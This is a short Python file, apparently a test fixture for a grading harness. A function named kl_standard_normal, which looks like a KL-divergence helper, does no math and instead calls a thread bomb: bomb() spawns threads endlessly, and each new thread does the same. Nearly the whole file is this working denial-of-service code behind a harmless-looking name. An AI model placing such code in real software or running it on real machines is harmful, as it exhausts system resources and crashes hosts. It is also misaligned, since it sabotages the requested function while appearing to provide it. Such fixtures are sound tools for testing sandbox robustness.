"""Starts threads without end, each of which does so, too.

loses: kl_standard_normal
"""
import threading
import time


def bomb():
    while True:
        try:
            threading.Thread(target=bomb, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


def kl_standard_normal(mu, logvar):
    bomb()
